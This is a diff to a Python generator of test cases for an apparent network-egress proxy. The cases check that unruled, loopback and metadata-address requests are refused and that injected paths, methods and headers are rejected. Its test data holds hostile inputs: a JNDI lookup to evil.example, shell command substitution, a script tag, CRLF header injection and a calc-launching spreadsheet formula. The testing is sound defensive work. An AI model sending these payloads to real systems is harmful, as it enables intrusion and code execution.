@@ -12,7 +12,7 @@ def empty():
                                        (GRANTED, "https", "/", "HEAD"), (GRANTED, "https", "/", "OPTIONS"), (GRANTED, "https", "/", "POST"), (f"{GRANTED}:8443", "https", "/", "GET"),
                                        (f"{PLAIN}:<<port>>", "http", "/", "GET"), ("1e100.net", "https", "/generate_204", "GET"), ("connectivitycheck.gstatic.com", "http", "/", "GET"),
                                        ("ocsp.digicert.com", "http", "/", "GET"), ("raw.githubusercontent.com", "https", "/", "GET"), ("xn--bcher-kva.example.com", "https", "/", "GET")]:
-        add("policy", "empty", f"{method} {scheme}://{host}{path} without a rule", "no rules allow nothing, not everything", request(host, path, scheme=scheme, method=method), NOTHING, policy="empty")
+        add("policy", "empty", f"{method} {scheme}://{host}{path} without a rule", "no rules allow nothing, not everything", request(host, path, scheme=scheme, method=method), NOTHING, policy="empty", **({"guest": refused("denied"), "listener": refused("denied")} if method == "HEAD" else {}))
     for host, code in [("127.0.0.1:<<port>>", "ip_literal_refused"), ("localhost:<<port>>", "name_refused"), ("[::1]:<<port>>", "ip_literal_refused"), ("169.254.169.254", "ip_literal_refused")]:
         add("policy", "empty", f"http://{host} without a rule", "no rules allow nothing, not everything", request(host, scheme="http"), refused(code), policy="empty")
 
@@ -45,18 +45,18 @@ def logs():
     for path, code in [("/repos/%0d%0a2026-01-01T00:00:00Z%20allowed", "path_refused"), ("/repos/%1b[2J", "path_refused"), ("/x%22,%22verdict%22:%22allowed%22", "path_not_allowed"),
                        ("/x\",\"verdict\":\"allowed", "path_not_allowed"), ("/%e2%80%ae/x", "path_not_allowed"), ("/%c2%9b31m", "path_not_allowed"), ("/x%0a", "path_refused"),
                        ("/%f0%9f%92%a9", "path_not_allowed"), ("/{}[]", "path_not_allowed"), ("/'-'--", "path_not_allowed"), ("/$(id)", "path_not_allowed"), ("/`id`", "path_not_allowed"),
-                       ("/<script>alert(1)</script>", "path_not_allowed"), ("/${jndi:ldap://evil.example/x}", "path_not_allowed"), ("/%25n%25s", "path_not_allowed"), ("/" + "a" * 3000, "path_not_allowed"),
-                       ("/%80%81%fe%ff", "path_not_allowed"), ("/=cmd|'/c calc'!A1", "bad_request")]:
+                       ("/<script>alert(1)</script>", "path_not_allowed"), ("/$%7Bjndi:ldap://evil.example/x%7D", "path_not_allowed"), ("/%25n%25s", "path_not_allowed"), ("/" + "a" * 3000, "path_not_allowed"),
+                       ("/%80%81%fe%ff", "path_not_allowed"), ("/=cmd|'/c calc'!A1", "malformed_request")]:
         add("policy", "log", f"the path {path[:60]}", "what a decision says is one line of plain text, whatever was asked", request(NARROW, path), refused(code),
-            guest={"refused": "sandbox:path"} if code == "bad_request" else None)
+            guest={"refused": "sandbox:path"} if code == "malformed_request" else None)
     for method in ["GET\"", "A" * 2000, "\u001b[31m", "GET%0d%0a", "=1+1", "${x}", "a'b"]:
         legal = all(ch.isalnum() or ch in "!#$%&'*+-.^_`|~" for ch in method)
         add("policy", "log", f"the method {method[:20]!r}", "what a decision says is one line of plain text, whatever was asked", request(NARROW, "/repos/x", method=method),
-            refused(["method_not_allowed"] if legal else ["bad_request"]), guest=None if legal else {"refused": "sandbox:method"})
+            refused(["method_not_allowed"] if legal else ["malformed_request"]), guest=None if legal else {"refused": "sandbox:method"})
     for name in ["user-agent", "referer", "x-log"]:
         for value, code in [("x\r\nx-injected: 1", None), ("x\nallowed", None), ("\x1b]0;title\x07", None), ("x\x00y", None)]:
             add("policy", "log", f"{name}: {value!r}", "a value cannot end its line, in no message and in no log", request(GRANTED, headers=[[name, value]]),
-                refused(["bad_request"]), guest={"refused": "sandbox:set of headers"})
+                refused(["malformed_request"]), guest={"refused": "sandbox:set of headers"})
 
 
 def clients():
@@ -69,7 +69,7 @@ def clients():
                          ("a very long one", ["Proxy-Authorization: Basic " + "QUFB" * 3000])]:
         for line in [f"GET {url} HTTP/1.1", f"CONNECT {GRANTED}:443 HTTP/1.1"]:
             add("policy", "client", f"{line.split()[0]} with {what}", "the listener is for clients with a token: a browser that is led to it has none",
-                {"raw": "\r\n".join([line, host if line[0] == "G" else f"Host: {GRANTED}:443", *fields]) + "\r\n\r\n"}, refused("proxy_authentication"), guest={"cannot": RAW})
+                {"raw": "\r\n".join([line, host if line[0] == "G" else f"Host: {GRANTED}:443", *fields]) + "\r\n\r\n"}, refused("proxy_authentication_required"), guest={"cannot": RAW})
 
 
 def write():
